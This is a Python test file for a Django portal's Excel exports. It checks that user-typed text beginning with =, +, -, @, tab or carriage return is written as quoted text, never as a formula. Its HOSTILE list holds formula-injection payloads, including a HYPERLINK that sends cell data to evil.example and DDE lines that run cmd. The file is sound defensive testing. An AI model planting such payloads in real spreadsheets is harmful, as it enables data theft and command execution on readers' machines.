"""Excel formula injection (OWASP "CSV injection"): text a person typed that begins with =, +, -, @,
a tab or a carriage return is written to every export as text — a string cell with Excel's quote
prefix — never as a formula; numbers and dates stay typed (portal/documents/excel.py)."""

import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from bases.services import funds
from portal.documents.excel import FORMULA_TRIGGERS, Column, write_workbook
from tests.factories import PilotBaseFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _cells(handle_bytes):
    sheet = load_workbook(io.BytesIO(handle_bytes)).active
    return list(sheet.iter_rows(min_row=2))


def test_every_hostile_text_is_a_quoted_string_and_numbers_and_dates_stay_typed():
    columns = [
        Column("文本"),
        Column("日期", kind="date"),
        Column("金额", kind="money"),
        Column("数", kind="int"),
    ]
    handle = io.BytesIO()
    write_workbook(handle, "t", columns, [[text, date(2026, 1, 2), "12.5", 3] for text in HOSTILE])
    rows = _cells(handle.getvalue())
    assert len(rows) == len(HOSTILE)
    for text, (cell, day, money, number) in zip(HOSTILE, rows, strict=True):
        assert cell.data_type == "s" and cell.quotePrefix, text
        assert cell.value == text.replace("\r", "\n") or cell.value == text  # xlsx normalises a bare CR
        assert day.data_type == "d" or day.is_date
        assert money.data_type == "n" and money.value == 12.5
        assert number.data_type == "n" and number.value == 3
    # a harmless text is written plain (no needless style)
    handle = io.BytesIO()
    write_workbook(handle, "t", [Column("文本")], [["忻州市新材料中试基地"], ["1e3 元"]])
    assert [c[0].quotePrefix for c in _cells(handle.getvalue())] == [False, False]
    assert all(trigger in "".join(HOSTILE) for trigger in ("=", "+", "-", "@", "\t", "\r"))
    assert "\t" in FORMULA_TRIGGERS and "\r" in FORMULA_TRIGGERS


@pytest.mark.django_db
def test_the_ledger_and_roster_exports_write_typed_text_as_text(client, people):
    base = PilotBaseFactory(
        host=people.host_a, recognized=True, recognized_on=date(2026, 5, 6), name="=1+1忻州市中试基地"
    )
    award = funds.award_create(base=base, today=date(2026, 5, 6))
    funds.award_disburse(
        actor=people.bureau, award=award, disbursed_on=date(2026, 6, 1), voucher_no="V1", amount="200000"
    )
    funds.ledger_record(
        actor=people.staff_a,
        base=base,
        direction="expenditure",
        entry_on=date(2026, 6, 2),
        amount="100.00",
        payee=HOSTILE[0],
        category="research",
        note=HOSTILE[3],
    )
    client.force_login(people.staff_a)
    response = client.get(reverse("bases:ledger_export", args=[base.pk]))
    rows = _cells(b"".join(response.streaming_content))
    spent = rows[-1]
    assert spent[4].value == HOSTILE[0] and spent[4].data_type == "s" and spent[4].quotePrefix
    assert spent[5].value == HOSTILE[3] and spent[5].data_type == "s" and spent[5].quotePrefix
    assert spent[3].data_type == "n" and spent[3].value == 100
    assert spent[0].is_date

    client.force_login(people.bureau)
    response = client.get(reverse("bases:export"), {"status": "recognized"})
    [row] = [r for r in _cells(b"".join(response.streaming_content)) if r[0].value == base.name]
    assert row[0].data_type == "s" and row[0].quotePrefix
